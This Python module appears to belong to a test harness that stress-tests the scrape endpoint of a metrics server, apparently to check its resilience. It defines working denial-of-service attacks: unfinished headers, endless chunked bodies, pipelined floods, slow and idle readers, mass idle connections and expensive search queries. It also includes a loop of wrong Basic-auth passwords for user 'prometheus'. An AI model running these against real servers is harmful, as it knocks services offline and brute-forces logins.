"""Attacks on the scrape side."""

import json
import selectors
import socket
import threading
import time

from attacks import Attacks
from measure import MIB, connect, exchange, push, receive_to_end, reset

ATTACKS = Attacks()


def push_apps(target, parameters):
    """Apps of a given number, length of name and size: what the attack's answers are made of."""
    count, length, size = parameters["apps"], parameters.get("name_length", 8), parameters.get("size", 0)
    text = "".join(f"m{index} {index}\n" for index in range(size // 10 + 1))[:size].rsplit("\n", 1)[0] if size else ""
    batch = max(1, 2 * MIB // (size + length + 16))
    for first in range(0, count, batch):
        apps = {f"{index:06}".ljust(length, "k"): text for index in range(first, min(first + batch, count))}
        answer = push(target.receiver, json.dumps(apps).encode())
        if answer:
            raise RuntimeError(answer)


def drain(connection, seen):
    """Takes answers as fast as they come, in a thread."""

    def run():
        try:
            while block := connection.recv(1 << 18):
                seen[0] += len(block)
        except OSError:
            pass

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


def flood(target, body, bytes_to_send, opening=b""):
    """Sends `body` over and over on one connection, at most so many bytes, and takes the answers."""
    seen = [0]
    with connect(target.scrape, 300) as connection:
        reader = drain(connection, seen)
        connection.sendall(opening)
        block = body * max(1, (64 << 10) // len(body))
        for _ in range(bytes_to_send // len(block)):
            connection.sendall(block)
        # Closing at once would reset the connection, and what was sent would not be looked at.
        connection.shutdown(socket.SHUT_WR)
        reader.join()


@ATTACKS.attack("unfinished-requests", mib=64, head=3000, path="/-/healthy", connections=1)
def unfinished_requests(target, parameters, _):
    """`G`, then again and again a request without its first byte followed by `G`: the buffer of bytes that were read never becomes empty."""
    request = f"ET {parameters['path']} HTTP/1.1\r\nHost: a\r\nX: {'x' * parameters['head']}\r\n\r\nG".encode()
    per_connection = parameters["mib"] * MIB // parameters["connections"]
    for _ in range(parameters["connections"]):
        target.attackers.start(flood_slowly, target, request, per_connection)


def flood_slowly(target, request, bytes_to_send):
    """One request for each answer, so that the program reads every part by itself."""
    with connect(target.scrape) as connection:
        connection.sendall(b"G")
        for _ in range(bytes_to_send // len(request)):
            connection.sendall(request)
            if not connection.recv(1 << 16):
                return


@ATTACKS.attack("unfinished-heads", connections=200, head=7000)
def unfinished_heads(target, parameters, _):
    """Heads that never end, on many connections."""
    connections = []
    for _ in range(parameters["connections"]):
        connection = connect(target.scrape)
        connection.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"x" * parameters["head"])
        connections.append(connection)
    time.sleep(1)
    return {"connections": len(connections)}


@ATTACKS.attack("endless-bodies", mib=64)
def endless_bodies(target, parameters, _):
    """A request whose chunked body never ends, with chunk extensions: it has to be thrown away as it comes."""
    target.attackers.start(
        flood, target, b"1;" + b"x" * 60 + b"\r\na\r\n", parameters["mib"] * MIB,
        b"GET /-/healthy HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")


@ATTACKS.attack("search", push_apps, apps=1000, words=2000, connections=2, requests=3)
def search(target, parameters, _):
    """`/apps?q=k+k+…`: words times apps."""
    query = "+".join("k" for _ in range(parameters["words"]))

    def ask():
        for _ in range(parameters["requests"]):
            with connect(target.scrape, 120) as connection:
                connection.sendall(f"GET /apps?q={query} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode())
                receive_to_end(connection)

    for _ in range(parameters["connections"]):
        target.attackers.start(ask)


@ATTACKS.attack("heads-of-pages", push_apps, apps=20_000, connections=40, path="/apps", requests=1)
def heads_of_pages(target, parameters, _):
    """Many `HEAD` at once of a page that is large."""

    def ask():
        connections = [connect(target.scrape, 120) for _ in range(parameters["connections"])]
        for _ in range(parameters["requests"]):
            for connection in connections:
                connection.sendall(f"HEAD {parameters['path']} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
            for connection in connections:
                connection.recv(1 << 16)

    target.attackers.start(ask)


@ATTACKS.attack("crowd", push_apps, apps=250, name_length=250, connections=256, path="/apps?format=html", accept=0, seconds=8)
def crowd(target, parameters, _):
    """One request after another on each of many connections, all from another address than that of the witness."""
    accept = f"Accept: {',' * parameters['accept']}\r\n" if parameters["accept"] else ""
    request = f"HEAD {parameters['path']} HTTP/1.1\r\nHost: a\r\n{accept}\r\n".encode()

    def ask():
        end = time.monotonic() + parameters["seconds"]
        with selectors.DefaultSelector() as selector:
            for _ in range(parameters["connections"]):
                connection = connect(target.scrape, 120, "127.0.0.2")
                connection.sendall(request)
                selector.register(connection, selectors.EVENT_READ)
            while time.monotonic() < end:
                for key, _ in selector.select(1):
                    if key.fileobj.recv(1 << 16):
                        key.fileobj.sendall(request)
                    else:
                        selector.unregister(key.fileobj)

    target.attackers.start(ask)


@ATTACKS.attack("pipelining", push_apps, apps=100, connections=2, path="/apps", method="HEAD", mib=1, seconds=10)
def pipelining(target, parameters, _):
    """Requests that do not wait for answers: about a hundred fit one read."""
    request = f"{parameters['method']} {parameters['path']} HTTP/1.1\r\nHost: a\r\n\r\n".encode()
    for _ in range(parameters["connections"]):
        target.attackers.start(flood, target, request, parameters["mib"] * MIB)


@ATTACKS.attack("idle-readers", push_apps, apps=20_000, name_length=250, readers=24, path="/apps", hold=3, requests=1)
def idle_readers(target, parameters, _):
    """Readers that ask for a page and take nothing of it."""

    def ask():
        connections = []
        for _ in range(parameters["readers"]):
            connection = socket.socket()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(30)
            host, port = target.scrape.rsplit(":", 1)
            connection.connect((host, int(port)))
            connection.sendall(f"GET {parameters['path']} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * parameters["requests"])
            connections.append(connection)
        time.sleep(parameters["hold"])

    target.attackers.start(ask)


@ATTACKS.attack("slow-readers", push_apps, apps=64, size=250_000, readers=40, rate=7000, generations=12, hold=1, seconds=60)
def slow_readers(target, parameters, _):
    """Readers of `/metrics` that take a little now and then, while all apps are replaced: each holds what it began with."""

    def ask(first):
        connections = []
        for index in range(first, parameters["readers"], parameters["generations"]):
            connection = socket.socket()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(30)
            host, port = target.scrape.rsplit(":", 1)
            connection.connect((host, int(port)))
            connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n")
            connections.append(connection)
        while connections:
            for connection in list(connections):
                try:
                    if not connection.recv(parameters["rate"] // 5):
                        connections.remove(connection)
                except OSError:
                    connections.remove(connection)
            time.sleep(0.2)

    for generation in range(parameters["generations"]):
        target.attackers.start(ask, generation)
        time.sleep(parameters["hold"] / 4)
        push_apps(target, parameters)
    time.sleep(parameters["hold"])
    target.attackers.wait(0)


@ATTACKS.attack("ended-senders", push_apps, apps=16, size=1_000_000, connections=400, kib=250, hold=3)
def ended_senders(target, parameters, _):
    """Clients that ask for more than they take, send much more, and end their side: what they sent has to be read to see the end."""
    filler = b"GET /metrics HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 900 + b"\r\n\r\n"
    more = filler * (parameters["kib"] * 1024 // len(filler))

    def ask():
        connections = []
        for _ in range(parameters["connections"] // 2):
            connection = socket.socket()
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.settimeout(2)
            host, port = target.scrape.rsplit(":", 1)
            connection.connect((host, int(port)))
            connections.append(connection)
            try:
                connection.sendall(filler)
                time.sleep(0.005)
                connection.sendall(more)
            except OSError:
                pass
            connection.shutdown(socket.SHUT_WR)
        time.sleep(parameters["hold"])

    for _ in range(2):
        target.attackers.start(ask)


@ATTACKS.attack("idle-connections", connections=1000, hold=2)
def idle_connections(target, parameters, _):
    """Connections that send nothing."""

    def ask():
        connections = [connect(target.scrape) for _ in range(parameters["connections"])]
        time.sleep(parameters["hold"])
        return connections

    target.attackers.start(ask)


@ATTACKS.attack("guesses", connections=50, seconds=5)
def guesses(target, parameters, _):
    """Wrong passwords, as many as are answered."""

    def ask():
        import base64

        end = time.monotonic() + parameters["seconds"] - 1
        number = 0
        while time.monotonic() < end:
            connections = []
            for _ in range(parameters["connections"]):
                number += 1
                word = base64.b64encode(f"prometheus:wrong {number}".encode()).decode()
                connection = connect(target.scrape)
                connection.sendall(f"GET /metrics HTTP/1.1\r\nHost: a\r\nAuthorization: Basic {word}\r\nConnection: close\r\n\r\n".encode())
                connections.append(connection)
            for connection in connections:
                receive_to_end(connection)

    target.attackers.start(ask)


@ATTACKS.attack("observe", hold=3)
def observe(target, parameters, _):
    """Nothing but what the configuration makes the program do by itself."""
    time.sleep(parameters["hold"])


@ATTACKS.attack("reset-after-request", path="/apps/victim", method="DELETE", authorization="", count=1)
def reset_after_request(target, parameters, _):
    """A request whose sender resets the connection at once."""
    header = f"Authorization: {parameters['authorization']}\r\n" if parameters["authorization"] else ""
    for _ in range(parameters["count"]):
        connection = connect(target.scrape)
        connection.sendall(f"{parameters['method']} {parameters['path']} HTTP/1.1\r\nHost: a\r\n{header}\r\n".encode())
        time.sleep(parameters.get("pause_ms", 20) / 1000)
        reset(connection)
